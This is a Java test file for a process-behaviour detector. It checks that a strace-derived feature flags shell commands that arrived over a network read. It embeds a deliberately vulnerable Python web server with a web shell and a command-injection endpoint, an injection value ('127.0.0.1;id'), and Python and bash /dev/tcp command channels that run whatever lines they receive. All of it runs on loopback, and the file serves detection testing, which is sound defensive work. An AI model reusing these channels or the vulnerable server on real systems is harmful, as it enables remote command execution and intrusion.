@@ -1,0 +1,193 @@
+package io.procguard.ml;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.procguard.core.process.ProcessRecord;
+import java.io.IOException;
+import java.io.InputStream;
+import java.io.OutputStream;
+import java.net.InetAddress;
+import java.net.ServerSocket;
+import java.net.Socket;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.concurrent.TimeUnit;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * Schema 22: a program that came in over a socket, run. A web shell ({@code ?c=id} run as {@code sh -c id}), a request
+ * value spliced into a command (command injection), and a command channel that runs each line it receives without ever
+ * putting the socket on the shell's stdin. Real strace, a real server in Python, the attacker in this JVM; the feature
+ * decides, not the forest.
+ */
+class CommandFromTheNetworkTest {
+    /**
+     * A web application in a few lines: serves {@code argv[2]} requests on a loopback port it writes to {@code argv[1]}.
+     * {@code /run?c=CMD} runs CMD through the shell (a web shell); {@code /ping?host=H} runs {@code echo ping -c 1 H}
+     * through the shell (the textbook injection); {@code /date} runs a fixed command.
+     */
+    private static final String SERVER = "import http.server,subprocess,urllib.parse,sys\n"
+            + "class H(http.server.BaseHTTPRequestHandler):\n"
+            + "    def do_GET(self):\n"
+            + "        u=urllib.parse.urlparse(self.path); q=urllib.parse.parse_qs(u.query)\n"
+            + "        if u.path=='/run': cmd=q['c'][0]\n"
+            + "        elif u.path=='/ping': cmd='echo ping -c 1 '+q['host'][0]\n"
+            + "        else: cmd='date'\n"
+            + "        out=subprocess.run(cmd,shell=True,capture_output=True).stdout\n"
+            + "        self.send_response(200); self.end_headers(); self.wfile.write(out)\n"
+            + "    def log_message(self,*a): pass\n"
+            + "s=http.server.HTTPServer(('127.0.0.1',0),H)\n"
+            + "open(sys.argv[1]+'.tmp','w').write(str(s.server_address[1]))\n"
+            + "import os; os.rename(sys.argv[1]+'.tmp',sys.argv[1])\n"
+            + "for _ in range(int(sys.argv[2])): s.handle_request()\n";
+
+    /** A command channel: connects to {@code argv[1]}, runs every line it receives through the shell, sends the output. */
+    private static final String CHANNEL = "import socket,subprocess,sys\n"
+            + "s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))\n"
+            + "while True:\n"
+            + "    cmd=s.recv(1024).decode()\n"
+            + "    if not cmd or cmd.strip()=='exit': break\n"
+            + "    s.sendall(subprocess.run(cmd,shell=True,capture_output=True).stdout)\n";
+
+    @TempDir
+    Path dir;
+
+    @BeforeEach
+    void needsStraceAndPython() {
+        StraceRuns.assumeStrace();
+        StraceRuns.assumePython();
+    }
+
+    /** Traces the server while this JVM sends it {@code requests}, one connection each, and reads the answers. */
+    private List<ProcessRecord> traceServer(String... requests) throws Exception {
+        Files.writeString(dir.resolve("server.py"), SERVER);
+        Path portFile = dir.resolve("port");
+        Thread client = new Thread(() -> {
+            try {
+                long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(30);
+                while (!Files.exists(portFile) && System.nanoTime() < deadline) {
+                    Thread.sleep(20);
+                }
+                int port = Integer.parseInt(Files.readString(portFile).trim());
+                for (String target : requests) {
+                    try (Socket s = new Socket(InetAddress.getLoopbackAddress(), port)) {
+                        s.getOutputStream().write(("GET " + target + " HTTP/1.1\r\nHost: 127.0.0.1\r\nAccept: */*\r\n\r\n")
+                                .getBytes(StandardCharsets.US_ASCII));
+                        s.getInputStream().readAllBytes();
+                    }
+                }
+            } catch (IOException | InterruptedException | NumberFormatException ignored) {
+                // the trace shows what arrived
+            }
+        });
+        client.setDaemon(true);
+        client.start();
+        Path log = StraceRuns.trace(dir, StraceRuns.RECOMMENDED, TrainedModels.PYTHON.toString(), dir.resolve("server.py").toString(),
+                portFile.toString(), Integer.toString(requests.length));
+        client.join(10_000);
+        return StraceRuns.processes(log, new BehaviourFeatures());
+    }
+
+    private static ProcessRecord shellRunning(List<ProcessRecord> ps, String program) {
+        return ps.stream().filter(p -> p.argv().equals(List.of("/bin/sh", "-c", program))).findFirst()
+                .orElseThrow(() -> new AssertionError("no sh -c '" + program + "' among " + ps.stream().map(ProcessRecord::argv).toList()));
+    }
+
+    private static float stagedExec(ProcessRecord p) {
+        return p.features().get("ind.staged_exec");
+    }
+
+    @Test
+    void aWebShellsCommandsAreCodeFromTheNetwork() throws Exception {
+        List<ProcessRecord> ps = traceServer("/run?c=id", "/run?c=cat+%2Fetc%2Fhostname", "/date");
+
+        ProcessRecord id = shellRunning(ps, "id");
+        assertThat(stagedExec(id)).isEqualTo(1f);
+        assertThat(id.evidence()).contains("its program came in a network read: \"id\"");
+        ProcessRecord cat = shellRunning(ps, "cat /etc/hostname");
+        assertThat(stagedExec(cat)).isEqualTo(1f);
+        assertThat(ps).as("the shell's own child is not a second find").filteredOn(p -> p.argv().equals(List.of("cat", "/etc/hostname")))
+                .singleElement().satisfies(p -> assertThat(stagedExec(p)).isZero());
+        assertThat(stagedExec(shellRunning(ps, "date"))).as("the server's own fixed command").isZero();
+        assertThat(ps).filteredOn(p -> p.argv().size() > 1 && p.argv().get(1).endsWith("server.py"))
+                .singleElement().satisfies(p -> assertThat(stagedExec(p)).as("the server itself").isZero());
+    }
+
+    @Test
+    void aRequestValueWithAShellMetacharacterInsideACommandIsAnInjection() throws Exception {
+        List<ProcessRecord> ps = traceServer("/ping?host=127.0.0.1", "/ping?host=127.0.0.1%3Bid");
+
+        assertThat(stagedExec(shellRunning(ps, "echo ping -c 1 127.0.0.1"))).as("the value as the application meant it").isZero();
+        ProcessRecord injected = shellRunning(ps, "echo ping -c 1 127.0.0.1;id");
+        assertThat(stagedExec(injected)).isEqualTo(1f);
+        assertThat(injected.evidence()).contains("its program came in a network read: \"127.0.0.1;id\"");
+        assertThat(ps).as("the injected command ran").anySatisfy(p -> assertThat(p.argv()).containsExactly("id"));
+    }
+
+    /**
+     * Traces a command channel ({@code channel.py PORT}, or {@code PORT} in {@code bashLoop}) while this JVM, its server,
+     * sends {@code lines} one at a time and reads the answers.
+     */
+    private List<ProcessRecord> traceChannel(String bashLoop, String... lines) throws Exception {
+        Files.writeString(dir.resolve("channel.py"), CHANNEL);
+        try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
+            Thread operator = new Thread(() -> {
+                try (Socket s = listener.accept()) {
+                    OutputStream out = s.getOutputStream();
+                    InputStream in = s.getInputStream();
+                    for (String line : lines) {
+                        out.write(line.getBytes(StandardCharsets.US_ASCII));
+                        out.flush();
+                        in.read(new byte[4096]); // its output: one command at a time, one read each
+                    }
+                    out.write("exit\n".getBytes(StandardCharsets.US_ASCII));
+                } catch (IOException ignored) {
+                    // the channel may hang up first
+                }
+            });
+            operator.setDaemon(true);
+            operator.start();
+            String port = Integer.toString(listener.getLocalPort());
+            Path log = bashLoop == null
+                    ? StraceRuns.trace(dir, StraceRuns.RECOMMENDED, TrainedModels.PYTHON.toString(), dir.resolve("channel.py").toString(), port)
+                    : StraceRuns.trace(dir, StraceRuns.RECOMMENDED, "/bin/bash", "-c", bashLoop.replace("PORT", port));
+            operator.join(10_000);
+            return StraceRuns.processes(log, new BehaviourFeatures());
+        }
+    }
+
+    @Test
+    void aCommandChannelThatRunsWhatItReceivesRunsCodeFromTheNetwork() throws Exception {
+        List<ProcessRecord> ps = traceChannel(null, "id\n", "echo hello\n");
+
+        assertThat(stagedExec(shellRunning(ps, "id\n"))).isEqualTo(1f);
+        assertThat(stagedExec(shellRunning(ps, "echo hello\n"))).isEqualTo(1f);
+        assertThat(ps).as("no shell holds the socket").allSatisfy(p -> assertThat(p.features().get("net.stdio_socket_io")).isZero());
+    }
+
+    @Test
+    void bashReadingCommandsFromDevTcpAByteAtATimeRunsCodeFromTheNetwork() throws Exception {
+        List<ProcessRecord> ps = traceChannel("exec 3<>/dev/tcp/127.0.0.1/PORT; "
+                + "while read -r c <&3; do [ \"$c\" = exit ] && break; /bin/sh -c \"$c\" >/dev/null 2>&1; echo ok >&3; done",
+                "id\n", "uname -a\n");
+
+        ProcessRecord id = shellRunning(ps, "id");
+        assertThat(stagedExec(id)).as("bash read 'id' in three one-byte reads").isEqualTo(1f);
+        assertThat(id.evidence()).contains("its program came in a network read: \"id\"");
+        assertThat(stagedExec(shellRunning(ps, "uname -a"))).isEqualTo(1f);
+    }
+
+    @Test
+    void aChannelsGreetingIsNoProgram() throws Exception {
+        List<ProcessRecord> ps = traceChannel("exec 3<>/dev/tcp/127.0.0.1/PORT; "
+                + "while read -r c <&3; do [ \"$c\" = exit ] && break; /bin/sh -c 'echo got one' >/dev/null; echo ok >&3; done",
+                "hello\n", "echo got one;\n");
+
+        assertThat(ps).filteredOn(p -> p.argv().equals(List.of("/bin/sh", "-c", "echo got one"))).hasSize(2)
+                .allSatisfy(p -> assertThat(stagedExec(p)).as("a fixed command after a network read").isZero());
+    }
+}
